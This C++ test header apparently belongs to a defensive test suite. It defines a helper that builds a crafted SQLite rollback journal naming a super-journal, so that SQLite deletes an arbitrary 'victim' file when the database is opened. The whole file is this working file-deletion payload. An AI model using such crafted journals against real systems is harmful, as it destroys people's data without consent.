#pragma once

#include <cstdint>
#include <string>
#include <vector>

namespace scarp::test {

/// A rollback journal beside a database that restores nothing and names a super-journal: SQLite, opening the
/// database, deletes the file of that name.
inline std::vector<char> journalNaming(const std::string& victim, const std::vector<char>& database) {
  std::vector<char> bytes;
  const auto add = [&bytes](std::uint32_t number) {
    for (int shift = 24; shift >= 0; shift -= 8) bytes.push_back(static_cast<char>(number >> shift));
  };
  const auto magic = [&] {
    add(0xd9d505f9);
    add(0x20a163d7);
  };
  constexpr std::uint32_t sector = 512, lockByte = 0x40000000;
  const auto high = static_cast<unsigned char>(database.at(16)),
             low = static_cast<unsigned char>(database.at(17));
  const std::uint32_t page = high == 0 && low == 1 ? 65536 : std::uint32_t{high} << 8 | low;
  magic();
  for (const std::uint32_t number :
       {0U, 12345U, static_cast<std::uint32_t>(database.size() / page), sector, page})
    add(number);
  bytes.resize(sector);
  add(lockByte / page + 1);
  bytes.insert(bytes.end(), victim.begin(), victim.end());
  std::uint32_t sum = 0;
  for (const char one : victim) sum += static_cast<std::uint32_t>(one);
  add(static_cast<std::uint32_t>(victim.size()));
  add(sum);
  magic();
  return bytes;
}

}  // namespace scarp::test
